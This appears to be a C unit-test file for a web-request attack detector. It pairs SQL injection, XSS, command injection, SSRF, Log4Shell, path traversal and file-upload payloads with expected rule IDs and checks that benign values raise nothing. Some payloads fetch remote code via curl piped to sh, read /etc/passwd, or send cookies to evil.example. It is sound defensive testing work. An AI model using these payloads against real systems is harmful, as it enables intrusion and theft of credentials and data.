/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks in values: which rule speaks, and that ordinary values raise nothing. */
#include "inspect_bench.h"

static void test_attacks(void **state) {
  /* clang-format off */
  static const struct {
    enum place place; const char *value, *id; } rows[] = {
    {PLACE_BODY, "1' OR '1'='1", "sqli"}, {PLACE_BODY, "-1 union all select null,version()-- -", "sqli"},
    {PLACE_BODY, "1;waitfor delay '0:0:5'--", "sqli"},
    {PLACE_QUERY, "id=1%2527%2520or%25201%253D1%2523", "sqli"},
    {PLACE_BODY, "1 and (select count(*) from users)>0", "sqli"}, {PLACE_BODY, "admin'--", "sqli"},
    {PLACE_BODY, "1/**/uNiOn/**/sElEcT/**/1,2,3", "sqli"},
    {PLACE_PATH, "/loans/1' or '1'='1/schedule", "sqli"},
    {PLACE_BODY, "<script>alert(1)</script>", "xss"}, {PLACE_BODY, "\" onmouseover=alert(1) x=\"", "xss"},
    {PLACE_QUERY, "q=%3Csvg/onload%3Dalert(1)%3E", "xss"}, {PLACE_BODY, "jav\tascript:alert(1)", "xss"},
    {PLACE_BODY, "127.0.0.1; cat /etc/passwd", "cmdi"}, {PLACE_BODY, "x`id`", "cmdi"},
    {PLACE_BODY, "$(curl http://1.2.3.4/x|sh)", "cmdi"}, {PLACE_BODY, ";c''at${IFS}/etc/hosts", "cmdi"},
    {PLACE_PATH, "/ping/1;cat /etc/passwd", "cmdi"},
    {PLACE_QUERY, "url=http%3A%2F%2F127.0.0.1%3A8400%2Fcb", "ssrf"},
    {PLACE_QUERY, "f=..%252f..%252fetc/passwd", "traversal"},
    {PLACE_PATH, "/static/..%c0%af..%c0%afetc/passwd", "traversal"},
    {PLACE_BODY, "....//....//etc/passwd", "traversal"},
    {PLACE_BODY, "php://filter/convert.base64-encode/resource=index.php", "file_inclusion"},
    {PLACE_BODY, "http://169.254.169.254/latest/meta-data/", "ssrf"},
    {PLACE_BODY, "http://0x7f000001/", "ssrf"},
    {PLACE_HEADER, "${jndi:ldap://x.example/a}", "log4shell"},
    {PLACE_BODY, "${${lower:j}${::-n}di:rmi://x/a}", "log4shell"}, {PLACE_BODY, "{{7*7}}", "ssti"},
    {PLACE_BODY, "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"},
    {PLACE_BODY, "T(java.lang.Runtime).getRuntime().exec('id')", "java_injection"},
    {PLACE_BODY, "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "deserialization"},
    {PLACE_BODY, "O:8:\"Evil\":1:{s:1:\"a\";i:1;}", "deserialization"},
    {PLACE_QUERY, "class.module.classLoader.resources.context=x", "spring4shell"},
    {PLACE_QUERY, "user[$ne]=1", "nosqli"}, {PLACE_QUERY, "x=%0d%0aSet-Cookie:%20a=b", "crlf"},
    {PLACE_HEADER, "sqlmap/1.7 (https://sqlmap.org)", "scanner"},
    {PLACE_BODY, "<?php system($_GET['c']); ?>", "php_injection"},
    {PLACE_BODY, "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "xxe"},
    {PLACE_BODY, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"},
    {PLACE_BODY, "*)(uid=*))(|(uid=*", "ldapi"}, {PLACE_BODY, "' or count(/child::node())=1 or 'a'='b", NULL},
  };
  /* clang-format on */
  for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
    const char *id = judge(*state, rows[i].place, rows[i].value, NULL, NULL);
    if (rows[i].id && strcmp(id, rows[i].id) != 0)
      fail_msg("%s: \"%s\", expected %s", rows[i].value, id, rows[i].id);
    if (!*id) fail_msg("%s: nothing", rows[i].value);
  }
}

static void test_ordinary(void **state) {
  /* clang-format off */
  static const struct {
    enum place place; const char *value; } rows[] = {
    {PLACE_BODY, "O'Connor & Sons, Dublin"}, {PLACE_BODY, "7 and a half"},
    {PLACE_BODY, "please select one from the list"}, {PLACE_BODY, "4.7\" & iPhone 6 Plus 5.5"},
    {PLACE_BODY, "union of workers, 1950"},
    {PLACE_BODY, "2026-01-05T10:11:12+08:00"}, {PLACE_BODY, "C/ Mayor; 4, 2B"},
    {PLACE_BODY, "a < b and c > d"}, {PLACE_BODY, "<b>bold</b> text <a href=\"/x\">y</a>"},
    {PLACE_BODY, "price is $5; 10% off (today)"},
    {PLACE_BODY, "https://hooks.partner.example/cb/22d8e3a1"}, {PLACE_BODY, "Dear ${name}, welcome"},
    {PLACE_BODY, "images/logo.v2.png"}, {PLACE_BODY, "id"},
    {PLACE_BODY, "\xe5\xbc\xa0\xe4\xb8\x89 \xe5\x8c\x97\xe4\xba\xac\xe5\xb8\x82"},
    {PLACE_HEADER, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
    {PLACE_HEADER, "Apache-HttpClient/4.5.14 (Java/17.0.9)"},
    {PLACE_COOKIE, "SESSIONID=0b74c19c80624387befd7f9d49bc340d; lang=zh-CN; _ga=GA1.2.102972"},
    {PLACE_PATH, "/api/customer/v1/customers/10023/profile"},
    {PLACE_PATH, "/files/a.txt/ce:gzip;gzip"}, {PLACE_PATH, "/report;sort=asc;v=2"},
    {PLACE_QUERY, "client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8400%2Fcb"},
    {PLACE_QUERY, "page=1&size=20&sort=created,desc&filter=status:open"},
    {PLACE_QUERY, "q=black+and+%22shower+curtain%22"}, {PLACE_BODY, "foo 'null' bar"},
    {PLACE_BODY, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1MSJ9.c2lnbmF0dXJl"}, {PLACE_BODY, "select name"},
  };
  /* clang-format on */
  for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
    const char *id = judge(*state, rows[i].place, rows[i].value, NULL, NULL);
    if (*id) fail_msg("%s: %s", rows[i].value, id);
  }
}

/* Notes, code and logs in fields that hold them; and what is an attack there all the same. */
static void test_texts(void **state) {
  static const char *const harmless[] = {
      "kubectl get pods -n pay && kubectl logs api-0 | grep ERROR; echo done",
      "SELECT count(*) FROM events e JOIN users u ON u.id = e.user_id WHERE e.ts > now() GROUP BY u.id",
      "function a(b) { return document.getElementById('x').value || null; } // see docs",
      "public class A { private String s = \"x\"; public int run() { return Runtime.version().feature(); } }",
      "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9]+)*)@(?:[a-z0-9-]+\\.)+[a-z]{2,}$",
      "CREATE TABLE a (\n  b varchar(255) DEFAULT 'x',\n  c int\n);\nSELECT 'it''s' || b FROM a; -- all of "
      "it, in order\n",
      "{{ config.name }} is set in config.items\nimport os\nclass A:\n  def run(self): return "
      "self.__class__\nprint('done at last')\n",
      "my ($a) = $_[0];\nforeach my $x (@$a) {\n  push @b, {in => $in{$x}};\n}\nreturn $eq && $ne;\n# end of "
      "it\n",
      "This release ports the fix for \"ssh://...\" URL from Git v2.7.6",
      "fix: escape ' in select * from users; --no-verify",
      "what is /etc/passwd used for, please"};
  static const char *const attacks[] = {"nice product' union select name, pass from users -- and more",
                                        "see my page <script>alert(1)</script> for more of it",
                                        "the host is a.example; cat /etc/passwd and tell me",
                                        "look at ../../../../etc/passwd in my folder please",
                                        "my name is x' or 'a'='a and so on"};
  for (size_t i = 0; i < sizeof harmless / sizeof *harmless; i++) {
    const char *id = judge_named(*state, PLACE_BODY, "content", harmless[i], NULL, NULL);
    if (*id) fail_msg("%s: %s", harmless[i], id);
  }
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
    if (!*judge_named(*state, PLACE_BODY, "content", attacks[i], NULL, NULL))
      fail_msg("%s: nothing", attacks[i]);
}

/* What editors and mail programs make of text, video and formulas in it; and what runs in it all the same. */
static void test_rich(void **state) {
  /* clang-format off */
  static const char *const harmless[] = {
    "<p>培训视频</p><p><iframe src=\"https://player.bilibili.com/player.html?bvid=BV1xx411c7mD&page=1\" w"
      "idth=\"640\" height=\"360\" frameborder=\"0\" allowfullscreen=\"allowfullscreen\" scrolling=\"no"
      "\"></iframe></p><p>请于周五前完成学习。</p>",
    "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-"
      "-><p class=\"MsoNormal\"><b><span style=\"mso-spacerun:'yes';font-family:宋体;font-size:10.5pt\">关"
      "于开展反洗钱培训的通知<o:p></o:p></span></b></p><p class=\"MsoNormal\"><span lang=\"EN-US\">1.</span>时间</p>"
      "<style>@font-face{font-family:\"Times New Roman\";} p.MsoNormal{margin:0pt;}</style>",
    "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:w=\"urn:schemas-microsoft-com:of"
      "fice:word\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"><meta n"
      "ame=\"Generator\" content=\"Microsoft Word 15\"><style><!-- p.MsoNormal {margin:0cm;} --></style"
      "></head><body lang=\"ZH-CN\" link=\"#0563C1\"><div class=\"WordSection1\"><p class=\"MsoNormal\""
      ">Hello team,<o:p></o:p></p><p>please see the attached.</p></div></body></html>",
    "<p>利率公式 <math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>r</mi><mo>=</mo><mfrac><mi>i</mi>"
      "<mi>p</mi></mfrac></math> 如上。</p><p>说明文字说明文字。</p>",
    "<p>图示</p><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" height=\"20\" viewBox=\"0 0 20 2"
      "0\"><circle cx=\"10\" cy=\"10\" r=\"8\" fill=\"#0a0\"/><path d=\"M0 0L10 10\"/></svg><p>绿色为正常。</"
      "p>",
    "<div class=\"form-group\"><label for=\"n\">姓名</label><input type=\"text\" id=\"n\" name=\"name\""
      " class=\"form-control\" placeholder=\"请输入\"></div><div class=\"form-group\"><label>性别</label><se"
      "lect name=\"sex\"><option value=\"1\">男</option><option value=\"2\">女</option></select></div><bu"
      "tton type=\"submit\" class=\"btn btn-primary\">提交</button>",
    "<!DOCTYPE html><html><head><title>账单</title><style type=\"text/css\">body{font-size:14px}</style"
      "></head><body><table width=\"600\"><tr><td>尊敬的${name}：</td></tr><tr><td>您的账单金额为 {{amount}} 元</td"
      "></tr></table></body></html>",
    "<ul data-type=\"taskList\"><li data-checked=\"true\"><label><input type=\"checkbox\" checked=\"c"
      "hecked\"><span></span></label><div><p>核对资料</p></div></li><li><label><input type=\"checkbox\"></l"
      "abel><div><p>提交审批</p></div></li></ul>",
    "<p>示例：</p><pre class=\"ql-syntax\" spellcheck=\"false\">&lt;script&gt;alert(1)&lt;/script&gt;\n&"
      "lt;div onclick=\"go()\"&gt;</pre><p>这样写会有 XSS 风险，请注意转义处理。</p>",
    "<p>介绍</p><p><embed type=\"application/x-shockwave-flash\" class=\"edui-faked-video\" pluginspage"
      "=\"http://www.macromedia.com/go/getflashplayer\" src=\"http://player.youku.com/player.php/sid/x/"
      "v.swf\" width=\"420\" height=\"280\" wmode=\"transparent\" play=\"true\" loop=\"false\" menu=\"f"
      "alse\"/></p><p>结束语在此。</p>",
    "<link rel=\"stylesheet\" href=\"/css/a.css\"><div class=\"x\"><h3>标题</h3><p>内容内容内容</p></div>",
    "<p style=\"scroll-behavior: smooth\">a</p><p>overscroll-behavior: contain</p><ul><li>words</li></ul>",
  };
  static const char *const attacks[] = {
    "<p>hello <strong>world</strong></p><ul><li>a</li></ul><script>new Image().src=\"//evil.example/?"
      "c=\"+document.cookie</script><p>bye</p>",
    "<p>hello <strong>world</strong> more text</p><p><img src=x onerror=alert(1)></p><p>bye</p><ul><li>a</li></ul>",
    "<p>hello <strong>world</strong> text</p><p><a href=\"javascript:alert(document.cookie)\">click</"
      "a></p><ul><li>a</li></ul>",
    "<p>hello <strong>world</strong></p><p>text</p><iframe src=\"javascript:parent.x()\"></iframe><p>x</p>",
    "<p>hello <strong>world</strong></p><p>text</p><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><p>x</p>",
    "<p>hello <strong>world</strong></p><p>text</p><svg/onload=alert(1)><p>x</p>",
    "<iframe src=\"https://evil.example/phish\"></iframe>",
    "<p>hello <strong>world</strong></p><p>text</p><meta http-equiv=\"refresh\" content=\"0;url=https"
      "://evil.example\"><p>x</p>",
    "<p>hello <strong>world</strong></p><p>text</p><base href=\"https://evil.example/\"><p>x</p>",
    "<p>hello</p><form action=\"https://evil.example/login\" method=post><input name=pwd type=password></form>",
    "<p>hello <strong>world</strong></p><p>t</p><svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<p>a</p><p>b</p><p>c text text</p><style>@import \"http://evil.example/x.css\";</style>",
    "<p>a</p><p>b</p><p>c text text</p><object data=\"http://evil.example/x.swf\"></object>",
    "&lt;p&gt;a&lt;/p&gt;&lt;p&gt;b words words&lt;/p&gt;&lt;p&gt;c&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;",
    "<p>a</p><p>words and words</p><p>b</p><a href=\"java&#115;cript:alert(1)\">c</a>",
  };
  /* clang-format on */
  for (size_t i = 0; i < sizeof harmless / sizeof *harmless; i++) {
    const char *id = judge_named(*state, PLACE_BODY, "content", harmless[i], NULL, NULL);
    if (*id) fail_msg("%s: %s", harmless[i], id);
  }
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
    if (strcmp(judge_named(*state, PLACE_BODY, "content", attacks[i], NULL, NULL), "xss") != 0)
      fail_msg("%s: nothing", attacks[i]);
}

/* A good password looks like any language by chance. */
static void test_passwords(void **state) {
  assert_string_equal(judge_named(*state, PLACE_BODY, "password", "^90b)/Y#?0", NULL, NULL), "");
  assert_string_equal(judge_named(*state, PLACE_BODY, "password", "x'or'1'='1", NULL, NULL), "sqli");
}

static void test_outcome(void **state) {
  enum outcome o = OUTCOME_NONE;
  assert_string_equal(
      judge(*state, PLACE_QUERY, "f=../../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", &o), "traversal");
  assert_int_equal(o, OUTCOME_SUCCESS);
  assert_string_equal(judge(*state, PLACE_QUERY, "f=../../etc/passwd", "{\"code\":404}", &o), "traversal");
  assert_int_equal(o, OUTCOME_ATTEMPTED);
}

/* A mark that the request spells in numbers stands in the answer: the database made it. */
static void test_proof(void **state) {
  static const char *const asked[] = {
      "id=1 UNION ALL SELECT CHAR(113,113,98,122,113)||CHAR(71,103)||name,NULL FROM t-- x",
      "id=1 UNION ALL SELECT CHR(113)||CHR(113)||CHR(98)||CHR(122)||CHR(113),NULL FROM DUAL-- x",
      "id=1 AND 1=2 UNION ALL SELECT CHAR(113)%2BCHAR(113)%2BCHAR(98)%2BCHAR(122)%2BCHAR(113)%2Bname FROM "
      "t-- x",
      "id=-1 UNION ALL SELECT CONCAT(0x7171627a71,IFNULL(CAST(name AS NCHAR),0x20),0x716b6b6b71) FROM t#"};
  enum outcome o;
  for (size_t i = 0; i < sizeof asked / sizeof *asked; i++) {
    o = OUTCOME_NONE;
    assert_string_equal(judge(*state, PLACE_QUERY, asked[i], "{\"name\":\"qqbzqGgalice\"}", &o), "sqli");
    assert_int_equal(o, OUTCOME_SUCCESS);
    o = OUTCOME_NONE;
    assert_string_equal(judge(*state, PLACE_QUERY, asked[i], "{\"code\":500,\"msg\":\"busy\"}", &o), "sqli");
    assert_int_equal(o, OUTCOME_ATTEMPTED);
  }
  o = OUTCOME_NONE; /* a word, which stands in answers anyway */
  judge(*state, PLACE_QUERY, "id=1 UNION SELECT name FROM m WHERE t=CHAR(105,116,101,109,115)-- x",
        "{\"items\":[]}", &o);
  assert_int_equal(o, OUTCOME_ATTEMPTED);
}

/* What only the transport's parser saw. */
static void test_anomalies(void **state) {
  static const struct {
    unsigned anomaly;
    const char *id;
  } rows[] = {{ANOMALY_H2_RAPID_RESET, "h2_rapid_reset"},
              {ANOMALY_H2_CONTINUATION_FLOOD, "h2_rapid_reset"},
              {ANOMALY_CL_AND_TE, "http_smuggling"},
              {ANOMALY_LENGTH_CONFLICT, "http_smuggling"}};
  for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
    struct txn t = {.kind = TXN_CALL, .status = 200, .anomalies = ANOMALY_BIT(rows[i].anomaly)};
    assert_string_equal(judge_call(*state, &t)->rule->id, rows[i].id);
    arena_done(&t.arena);
  }
}

/* Both versions of bytes sent twice stand in the evidence, without what is personal. */
static void test_overlap(void **state) {
  static const struct overlap versions = {.kept = SPAN_LIT("GET /index HTTP/1.1"),
                                          .other = SPAN_LIT("GET /?m=13912345678 HT")};
  struct txn t = {.kind = TXN_CALL, .status = 200, .overlap = &versions};
  const struct signal *s = judge_call(*state, &t);
  assert_string_equal(s->rule->id, "tcp_overlap");
  assert_int_equal(s->nevidence, 2);
  assert_true(span_eq(s->evidence[0].what, SPAN_LIT("GET /index HTTP/1.1")));
  assert_true(span_starts(s->evidence[1].what, SPAN_LIT("GET /?m=")));
  assert_int_equal(span_find(s->evidence[1].what, SPAN_LIT("12345")), s->evidence[1].what.len);
  arena_done(&t.arena);
}

/* A file's name counts as the server that likes it best reads it. */
static void test_names(void **state) {
  static const struct {
    const char *names;
    bool runs;
  } rows[] = {{"filename=\"a.jpg\"", false},
              {"filename=\"a.jsp\"", true},
              {"filename=\"a.jpg\"; filename*=UTF-8''%E6%AF%94.jsp", true},
              {"filename=\"a.jpg\"; filename*=UTF-8''a%2ejsp", true},
              {"filename=\"a.php\"; filename=\"a.jpg\"", true},
              {"filename*0*=UTF-8''a; filename*1*=%2e; filename*2=php", true},
              {"filename*0=\"report.php\"; filename*1=\".notes.txt\"", true},
              {"filename=\"jsp.jpg\"; filename*=UTF-8''%E8%BA%AB%E4%BB%BD.jpg", false}};
  struct bench *b = *state;
  for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
    char body[300];
    int n = snprintf(body, sizeof body,
                     "--B\r\nContent-Disposition: form-data; name=\"f\"; %s\r\n\r\nx\r\n--B--\r\n",
                     rows[i].names);
    struct txn t = {.kind = TXN_CALL, .status = 200, .method = SPAN_LIT("POST"), .path = SPAN_LIT("/u")};
    struct api_event e = {.txn = &t};
    arena_init(&t.arena, NULL, 0);
    for (int d = 0; d < 2; d++) buf_init(&t.side[d].raw, NULL, 0), buf_init(&t.side[d].decoded, NULL, 0);
    t.side[0].mime = SPAN_LIT("multipart/form-data");
    buf_put(&t.side[0].raw, span_of(body, (size_t)n));
    inspect_begin(b->in, &t, &e);
    inspect_call(b->in);
    if ((e.signals != NULL) != rows[i].runs) fail_msg("%s", rows[i].names);
    if (e.signals) assert_string_equal(e.signals->rule->id, "file_upload");
    buf_done(&t.side[0].raw);
    arena_done(&t.arena);
  }
}

int main(void) {
  const struct CMUnitTest tests[] = {cmocka_unit_test(test_attacks), cmocka_unit_test(test_ordinary),
                                     cmocka_unit_test(test_texts),   cmocka_unit_test(test_passwords),
                                     cmocka_unit_test(test_outcome), cmocka_unit_test(test_anomalies),
                                     cmocka_unit_test(test_overlap), cmocka_unit_test(test_names),
                                     cmocka_unit_test(test_proof),   cmocka_unit_test(test_rich)};
  return cmocka_run_group_tests(tests, setup, teardown);
}
